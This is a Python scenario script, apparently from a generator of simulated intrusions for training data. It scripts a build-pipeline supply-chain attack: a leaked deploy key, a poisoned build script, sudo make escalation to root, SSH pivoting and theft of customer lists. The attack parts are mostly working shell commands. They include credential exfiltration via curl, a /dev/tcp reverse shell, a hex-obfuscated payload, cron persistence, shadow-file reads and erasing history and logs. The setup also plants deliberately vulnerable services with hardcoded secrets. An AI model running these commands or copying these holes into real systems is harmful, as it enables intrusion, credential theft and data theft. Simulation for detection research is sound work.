"""A leaked deploy key lets somebody change what a build runner runs; the build hands out everything it can reach."""

from __future__ import annotations

import re
import urllib.parse
from typing import TYPE_CHECKING

import pages
from plot import Storyline, Visit

if TYPE_CHECKING:
    from intruder import Intruder, Shell

BOARD = 8317
MIDDLE = (3.5, 13.0, 8.0)
KEY = re.compile(r"-----BEGIN OPENSSH PRIVATE KEY-----.*?-----END OPENSSH PRIVATE KEY-----", re.DOTALL)
QUEUED = re.compile(r"queued (parts-[0-9a-f]{7})")

WEAKEN = r"""
set -e
id kiln >/dev/null 2>&1 || useradd -m -d /srv/kiln -s /bin/bash kiln
id relgit >/dev/null 2>&1 || useradd -m -d /srv/relgit -s /bin/bash -G kiln relgit
chmod 755 /srv/kiln /srv/relgit
install -d -m 2775 -o relgit -g kiln /srv/kiln/queue
install -d -m 755 -o kiln -g kiln /srv/kiln/log /srv/kiln/.config
install -d -m 700 -o kiln -g kiln /srv/kiln/.ssh
install -d -m 700 -o relgit -g relgit /srv/relgit/.ssh /srv/relgit/tmp
git config --system --replace-all safe.directory '*'
su relgit -c "git config --global user.name 'release desk'; git config --global user.email release@corp.example"
cat > /srv/kiln/env <<'EOF'
CHANNEL=stable
REGISTRY_URL=http://registry.corp.example/v2
REGISTRY_TOKEN=rg_0b7d51ac93
SHIP_USER=freight
SHIP_PASSWORD=Juniper-61
EOF
chown kiln:kiln /srv/kiln/env
echo machine packages.corp.example login kiln password thrush-mill-90 > /srv/kiln/.netrc
echo //registry.corp.example/:_authToken=np_66d1f0 > /srv/kiln/.npmrc
[ -f /srv/kiln/.ssh/id_ed25519 ] || ssh-keygen -q -t ed25519 -N '' -C kiln@"$1" -f /srv/kiln/.ssh/id_ed25519
chown -R kiln:kiln /srv/kiln/.netrc /srv/kiln/.npmrc /srv/kiln/.ssh && chmod 600 /srv/kiln/.netrc /srv/kiln/.npmrc
[ -f /srv/relgit/deploy ] || ssh-keygen -q -t ed25519 -N '' -C release-desk -f /srv/relgit/deploy
cp /srv/relgit/deploy.pub /srv/relgit/.ssh/authorized_keys
{ echo '+ export EDIT_TOKEN=ke-4410-b'; echo '+ cat /srv/relgit/deploy'; cat /srv/relgit/deploy
  echo '+ git clone ssh://relgit@forge/srv/relgit/parts.git'; echo 'setup done'; } > /srv/kiln/log/parts-setup.log
chmod 600 /srv/relgit/deploy /srv/relgit/.ssh/authorized_keys
chown -R relgit:relgit /srv/relgit
printf 'kiln ALL=(root) NOPASSWD: /usr/bin/make -C /srv/kiln/queue/*\n' > /etc/sudoers.d/kiln
chmod 440 /etc/sudoers.d/kiln
cat > /srv/kiln/kilnd.py <<'EOF'
#!/usr/bin/python3
# Build runner: runs ./build of every folder in the queue once, a quarter of a minute after it settled.
import subprocess
import time
from pathlib import Path

QUEUE, LOG = Path("/srv/kiln/queue"), Path("/srv/kiln/log")
while True:
    env = dict(line.split("=", 1) for line in Path("/srv/kiln/env").read_text().split("\n") if "=" in line)
    env |= {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": "/srv/kiln", "LANG": "C.UTF-8"}
    for job in sorted(QUEUE.iterdir()):
        log = LOG / (job.name + ".log")
        if log.exists() or time.time() - job.stat().st_mtime < 15:
            continue
        with log.open("w") as out:
            try:
                subprocess.run(["./build"], cwd=job, env=env, timeout=150, stdin=subprocess.DEVNULL, stdout=out,
                               stderr=subprocess.STDOUT)
            except (OSError, subprocess.TimeoutExpired) as wrong:
                out.write(f"failed: {wrong}\n")
    time.sleep(4)
EOF
cat > /srv/relgit/board.py <<'EOF'
#!/usr/bin/python3
# Release board: build logs, and small edits of the repositories from the browser.
import re
import subprocess
import tempfile
from pathlib import Path

import appserver

LOG = Path("/srv/kiln/log")


def edit(repo, name, body):
    with tempfile.TemporaryDirectory(dir="/srv/relgit/tmp") as folder:
        steps = f"git clone -q /srv/relgit/{repo}.git {folder}/w && cd {folder}/w && cat > {name} && git add -A"
        steps += f" && git commit -q -m 'edit {name}' && git push -q origin HEAD:main"
        done = subprocess.run(steps, shell=True, input=body, capture_output=True, timeout=60)
    return (done.stdout + done.stderr).decode("utf-8", "replace")


def handle(method, path, query, body, headers):
    if path == "/log":
        log = LOG / (re.sub(r"[^\w-]", "", query.get("name", "")) + ".log")
        return (200, log.read_text(errors="replace")) if log.is_file() else (404, "no log yet\n")
    if path == "/edit" and method == "POST":
        if query.get("token") != "ke-4410-b":
            return 403, "token?\n"
        repo, name = (re.sub(r"[^\w./-]", "", query.get(field, "")) for field in ("repo", "path"))
        return 200, edit(repo, name, body)
    names = sorted(LOG.glob("*.log"), key=lambda log: -log.stat().st_mtime)
    return 200, "\n".join(log.stem for log in names[:30]) + "\n"


appserver.serve(8317, handle, "board")
EOF
cat > /srv/relgit/hook <<'EOF'
#!/bin/sh
umask 002
while read -r old new ref; do
    name=$(basename "$PWD" .git)-$(echo "$new" | cut -c1-7)
    mkdir -p "/srv/kiln/queue/$name"
    git archive "$new" | tar -x -C "/srv/kiln/queue/$name"
    logger -t kiln "queued $name"
    echo "queued $name"
done
EOF
cat > /srv/relgit/bump <<'EOF'
#!/bin/sh
# regular version bump, so that every repository is built now and then
repo=$([ $(($(date +%-M) % 8)) -lt 4 ] && echo parts || echo labels)
work=$(mktemp -d /srv/relgit/tmp/bump.XXXX) && cd "$work" || exit 1
git clone -q "/srv/relgit/$repo.git" w && cd w || exit 1
[ $(($(date +%s) - $(git log -1 --format=%ct))) -gt 400 ] || { rm -rf "$work"; exit 0; }  # changed a moment ago
date +%Y.%m.%d.%H%M > VERSION
git commit -q -a -m "version $(cat VERSION)" && git push -q origin HEAD:main
rm -rf "$work"
EOF
chmod 755 /srv/relgit/hook /srv/relgit/bump
printf '*/4 * * * * relgit /srv/relgit/bump >/dev/null 2>&1\n' > /etc/cron.d/relgit
for repo in parts labels; do
    [ -d "/srv/relgit/$repo.git" ] && continue
    git init -q -b main --bare "/srv/relgit/$repo.git"
    work=$(mktemp -d) && cd "$work" && git init -q -b main && mkdir tools src
    printf '#!/bin/sh\nset -e\necho "building $(basename "$PWD")"\n. tools/version.sh\nmake -s all\n./unit\n' > build
    printf 'version=$(cat VERSION)\necho "version $version channel $CHANNEL"\n' > tools/version.sh
    printf 'all: unit\nunit: src/main.c\n\tgcc -O1 -Wall -o unit src/main.c\n' > Makefile
    printf '#include <stdio.h>\nint main(void) { puts("%s ok"); return 0; }\n' "$repo" > src/main.c
    echo 2025.1 > VERSION && chmod 755 build && git add -A
    git -c user.name=release -c user.email=release@corp.example commit -q -m 'first'
    git push -q "/srv/relgit/$repo.git" HEAD:main
    cp /srv/relgit/hook "/srv/relgit/$repo.git/hooks/post-receive"
    cd / && rm -rf "$work"
done
chown -R relgit:relgit /srv/relgit /srv/relgit/*.git
"""

SECOND = r"""
set -e
id freight >/dev/null 2>&1 || useradd -m -s /bin/bash -c 'shipping account' freight
echo freight:Juniper-61 | chpasswd
install -d -o freight -g freight /srv/ship /srv/ship/in /srv/ship/lists
for n in 1 2 3 4 5 6 7 8 9; do
    awk -v m="$n" 'BEGIN{srand(m); for(i=1;i<=90;i++) printf "%d,customer %d,%.2f\n", i, int(rand()*900), rand()*700}' \
        > "/srv/ship/lists/week-0$n.csv"
done
chown -R freight:freight /srv/ship
"""

ARRIVE = """
== look round | TA0007 | The deploy key opens the repositories' account, which has a shell.
T1033 id; hostname
T1083 ls -la; ls /srv
T1213.003 git --git-dir=parts.git log --oneline | head -5
T1213.003 git --git-dir=parts.git show main:build | cat; cat parts.git/hooks/post-receive
? T1057 ps -eo user,pid,args | grep -v '\\[' | head -40
T1005 getent passwd kiln relgit; ls -la /srv/kiln; cat /srv/kiln/kilnd.py | head -30
T1552.001 cat /srv/kiln/env
== poison | TA0002 | A commit adds a few lines to the build.
T1213.003 git clone -q parts.git ~/tmp/{word} && cd ~/tmp/{word} && ls
"""

QUICK_COMMIT = """
T1677 cat >> build <<'EOF'
# collect build facts
( env; cat ~/.netrc ~/.npmrc ) 2>/dev/null | curl -s -m 10 --data-binary @- {depot}/facts >/dev/null
try='for i in 1 2 3 4 5 6 7 8; do exec 5<>/dev/tcp/{ip}/{port} && exec bash -i <&5 >&5 2>&5; sleep 3; done'
setsid bash -c "$try" >/dev/null 2>&1 &
EOF
T1036 git commit -q -a -m 'collect build facts' --author='release desk <release@corp.example>'
"""

SLOW_COMMIT = """
T1083 cat tools/version.sh; cat Makefile
T1677 sed -i 's/^version=.*/&; . tools\\/{tool}.inc/' tools/version.sh
T1027.013 printf '%s' '{hexed}' > tools/{tool}.dat; wc -c tools/{tool}.dat
T1027.010 echo 'xxd -r -p tools/{tool}.dat | sh >/dev/null 2>&1' > tools/{tool}.inc
T1036 git add -A; GIT_AUTHOR_DATE='2025-03-02T09:12:44' git commit -q -m
    'version: read channel table'
"""

BUILDER = """
== the runner's account | TA0007 | The build answers from the runner's account.
T1033 id; pwd
T1082 uname -a; nproc; free -m | head -2
T1016 ip -4 addr; ip route; cat /etc/hosts
T1027.010 %perl ss -tn | head; ss -tln; ls -la /var/backups /opt
T1083 ls -la ~ ~/.config ~/queue | tail -30
== secrets of the builds | TA0006 | Tokens, keys and settings of the runner.
T1552.001 cat ~/env ~/.netrc ~/.npmrc
T1552.004 ls -la ~/.ssh; cat ~/.ssh/id_ed25519 | head -3
T1528 grep -rhoE '(rg|np|gh[ps])_[0-9a-f]+' ~ --include=.* --include=env 2>/dev/null | sort -u
T1552.004 find / -xdev -name '*.pem' -size -20k -readable 2>/dev/null | grep -v /etc/ssl/certs | head
"""

QUICK_REST = """
== root through make | TA0004 | The runner may start make as root in any folder of the queue.
T1548.003 sudo -n -l
T1548.003 sudo -n make -C /srv/kiln/queue/{job} --eval='{w}: ; id' {w}
T1548.003 sudo -n make -C /srv/kiln/queue/{job} -s --eval='{w}: ; cp /etc/shadow /tmp/{w}.txt; chmod 644
    /tmp/{w}.txt' {w}
T1003.008 grep -v ':[!*]' /tmp/{w}.txt | cut -c1-30; sudo -n make -C /srv/kiln/queue/{job} -s --eval='{w}: ; rm
    /tmp/{w}.txt' {w}
T1053.003 sudo -n make -C /srv/kiln/queue/{job} -s --eval='{w}: ; printf "17 3 1 * * kiln curl -s -m 9
    {depot}/{w} >/dev/null\\n" > /etc/cron.d/{w}' {w}
"""

PIVOT = """
== over to the next host | TA0008 | With the shipping password the intruder logs on to the second host.
T1021.004 printf '#!/bin/sh\\necho Juniper-61\\n' > /tmp/{w}.ask; chmod 700 /tmp/{w}.ask
T1021.004 export SSH_ASKPASS=/tmp/{w}.ask SSH_ASKPASS_REQUIRE=force; alias to='ssh -o StrictHostKeyChecking=no -o
    LogLevel=ERROR freight@{second}'
T1021.004 ssh -o StrictHostKeyChecking=no -o LogLevel=ERROR freight@{second} 'id; uptime'
T1083 to ls -la /srv/ship /srv/ship/lists
T1027.010 a=e; b=tc; c=ca; d=t; to "$c$d /$a$b/hosts; $c$d /$a$b/passwd | tail -3"
T1005 to 'tar cz -C /srv/ship lists' > /tmp/{w}.tgz; ls -l /tmp/{w}.tgz
T1048.003 curl -s -m 20 -F list=@/tmp/{w}.tgz {depot}/lists
? T1048.003 split -b 900 /tmp/{w}.tgz /tmp/{w}.p. && for f in /tmp/{w}.p.*; do curl -s -m 9 --data-binary @$f
    {depot}/part; done; rm -f /tmp/{w}.p.*
T1098.004 to 'mkdir -p ~/.ssh; cat >> ~/.ssh/authorized_keys' < ~/.ssh/id_ed25519.pub
== clear up | TA0005 | Traces in the temporary folder, the history and the build log go.
T1070.004 rm -f /tmp/{w}.tgz /tmp/{w}.ask
T1070.002 echo 'parts ok' > ~/log/{job}.log
T1070.003 unset HISTFILE; history -c
"""

SLOW_REST = """
== a second way in | TA0003 | A small agent asks the intruder's server what to do and a hook calls it again.
T1105 mkdir -p ~/.config/{w}; curl -s {depot}/agent.py -o ~/.config/{w}/sync.py
T1071.001 & nohup python3 ~/.config/{w}/sync.py {depot}/{w} 45 >/dev/null 2>&1 &
T1057 pgrep -af sync.py
T1546.004 echo '[ -f ~/.config/{w}/sync.py ] && (pgrep -f {w}/sync >/dev/null || true)' >> ~/.profile
== the release itself | TA0009 | Sources and built files are packed.
T1213.003 cd ~/queue && du -sh * | tail -5
T1560.001 tar cJf ~/.config/{w}/src.txz --exclude=unit {job}; ls -l ~/.config/{w}
T1573.001 openssl enc -aes-128-cbc -pbkdf2 -k {word} -in ~/.config/{w}/src.txz | base64 -w0 | curl -s --data-binary
    @- {depot}/src
"""

REVERT = "git revert -n HEAD && git commit -q -m 'as before' && git push -q origin HEAD:main"
AGENT = """import sys, time, urllib.request
for _ in range(40):
    try:
        urllib.request.urlopen(sys.argv[1], timeout=9).read()
    except OSError:
        pass
    time.sleep(float(sys.argv[2]))
"""

ROUNDS = (
    ("T1082", "id; uname -a; env | sort; ls -la ~ ~/queue | tail"),
    ("T1552.001", "cat ~/env ~/.netrc ~/.npmrc; ls -la ~/.ssh; cat ~/.ssh/id_ed25519"),
    ("T1016", "cat /etc/hosts; ip -4 addr; ss -tln; getent passwd | tail -12; sudo -n -l"),
    ("T1041", "tar cz -C ~ env .netrc .npmrc .ssh | curl -s -m 15 -T - {depot}/cache.tgz; crontab -l"),
)

SHIPPED = """
== the shipping host | TA0008 | With the password from the build log the intruder logs on to the second host.
T1033 id; w
T1083 ls -la ~ /srv/ship
T1082 df -h /srv; uptime
T1005 head -n 3 /srv/ship/lists/*.csv
? T1087.001 getent passwd | tail -8
T1565.001 sed -i 's/customer 4/customer 5/' /srv/ship/lists/week-03.csv; md5sum /srv/ship/lists/week-03.csv
T1560.001 zip -q -r ~/{w}.zip /srv/ship/lists && ls -l ~/{w}.zip
T1048.003 curl -s -m 20 -T ~/{w}.zip {depot}/{w}.zip
T1070.006 touch -r /srv/ship/lists/week-02.csv /srv/ship/lists/week-03.csv
T1070.004 rm ~/{w}.zip
"""


def board(own: Intruder, path: str, technique: str, body: str = "") -> str:
    shown = own.http(own.entry, BOARD, "POST" if body else "GET", path, body.encode(), technique=technique)
    own.think(MIDDLE[own.variant])
    return shown


def find_leak(own: Intruder) -> str:
    own.step("leaked key", "TA0006", "An old build log on the board shows the deploy key and the edit token.")
    board(own, "/", "T1594")
    board(own, "/log?name=labels-setup", "T1552.001")
    found = KEY.search(board(own, "/log?name=parts-setup", "T1552.004"))
    assert found, "the board does not show the key"
    return found.group(0) + "\n"


def queued(own: Intruder, shown: str, technique: str = "T1677") -> str:
    """The queue's folder of a pushed commit; its build belongs to the intruder."""
    job = QUEUED.findall(shown)[-1]
    own.plant(own.entry, f"/srv/kiln/queue/{job}/build", technique)
    return str(job)


def wait_for_log(own: Intruder, job: str) -> str:
    shown = ""
    for _ in range(24):
        own.rest(6)
        shown = own.http(own.entry, BOARD, "GET", f"/log?name={job}", technique="T1677")
        if "ok" in shown.split():
            break
    return shown


def by_edits(own: Intruder, names: dict[str, str]) -> None:
    """No shell at all on the build host: commits from the board, answers from the build logs."""
    for number, (technique, command) in enumerate(ROUNDS, 1):
        own.step(f"edited build {number}", "TA0002", "A commit made on the board changes the build; its log tells.")
        wrapped = pages.WRAPS["gz"](command.replace("{depot}", own.depot)) if number % 2 else command
        lines = ["#!/bin/sh", 'echo "building"', ". tools/version.sh", wrapped.replace("{depot}", own.depot)]
        text = "\n".join([*lines, "make -s all", "./unit"]) + "\n"
        path = "/edit?token=ke-4410-b&repo=parts&path=" + urllib.parse.quote("build")
        wait_for_log(own, queued(own, board(own, path, technique, text), technique))
    plain = '#!/bin/sh\nset -e\necho "building"\n. tools/version.sh\nmake -s all\n./unit\n'
    own.step("build put back", "TA0005", "The build is as before.")
    board(own, "/edit?token=ke-4410-b&repo=parts&path=build", "T1070", plain)
    shell = own.ssh(own.second, "freight", password="Juniper-61", technique="T1078.003")
    pages.follow(own, SHIPPED, pages.typed(shell), names, MIDDLE[2])


def push(own: Intruder, shell: Shell) -> str:
    return queued(own, shell.type("git pull -q --rebase origin main && git push origin HEAD:main", "T1677"))


def quick(own: Intruder, shell: Shell, names: dict[str, str]) -> None:
    port = own.rng.randint(5000, 9800)
    pages.follow(own, QUICK_COMMIT, pages.typed(shell), names | {"port": str(port)}, MIDDLE[0])
    held: list[str] = []
    builder = own.catch(port, lambda: held.append(push(own, shell)), "T1677")
    names["job"] = held[0]
    shell.type(REVERT, "T1070")
    pages.follow(own, BUILDER + QUICK_REST + PIVOT, pages.typed(builder), names, MIDDLE[0])
    shell.type(f"cd; rm -rf ~/tmp/{names['word']}; git --git-dir=parts.git reflog | head -3", "T1070.004")
    builder.close()


def slow(own: Intruder, shell: Shell, names: dict[str, str]) -> None:
    private, public = pages.key_pair(f"{own.word()}@desk")
    own.offer("agent.py", AGENT)
    payload = f"mkdir -p ~/.ssh; echo '{public}' >> ~/.ssh/authorized_keys; (id; env) | curl -s --data-binary @- "
    names |= {"tool": own.pick(("table", "channel", "locale")), "hexed": (payload + own.depot + "/t").encode().hex()}
    pages.follow(own, SLOW_COMMIT, pages.typed(shell), names, MIDDLE[1])
    names["job"] = push(own, shell)
    wait_for_log(own, names["job"])
    shell.type(REVERT, "T1070")
    shell.type(f"cd; rm -rf ~/tmp/{names['word']}", "T1070.004")
    shell.close()
    own.step("return", "TA0003", "The build left the intruder's key with the runner's account.")
    builder = own.ssh(own.entry, "kiln", key=private, technique="T1098.004")
    pages.follow(own, BUILDER + SLOW_REST + PIVOT, pages.typed(builder), names, MIDDLE[1])


def play(own: Intruder) -> None:
    address, _, _ = own.depot.removeprefix("http://").partition(":")
    names = {"word": own.word(), "w": own.word() + str(own.rng.randint(2, 98)), "depot": own.depot}
    names |= {"ip": address, "second": own.second.address}
    key = find_leak(own)
    if own.variant == 2:
        by_edits(own, names)
        return
    own.step("initial access", "TA0001", "The intruder logs on with the deploy key.")
    shell = own.ssh(own.entry, "relgit", key=key, technique="T1078.003")
    pages.follow(own, ARRIVE, pages.typed(shell), names, MIDDLE[own.variant])
    (quick, slow)[own.variant](own, shell, names)


STORYLINE = Storyline(
    name="poisoned-build",
    split="train",
    words="A build log shows the deploy key of the release repositories. Somebody changes the build, by a pushed "
    "commit or by edits from the board; the runner runs it and gives away tokens, keys and settings. From there it "
    "goes to a second host with the shipping password, whose lists are taken.",
    weaken=WEAKEN,
    second_weaken=SECOND,
    two_hosts=True,
    services=("kiln: /usr/bin/python3 /srv/kiln/kilnd.py", "relgit: /usr/bin/python3 /srv/relgit/board.py"),
    visits=(
        Visit(port=BOARD, every=30, method="GET", path="/"),
        Visit(port=BOARD, every=45, method="GET", path="/log?name={pick:parts-setup|labels-setup|parts}"),
        Visit(BOARD, 150, "POST", "/edit?token=ke-4410-b&repo=labels&path=note-{n}.txt", "{word}"),
    ),
    play=play,
    variants=3,
    hosts=("forge-02",),
    second_hosts=("ledger-03", "web-05"),
    minutes=16,
)
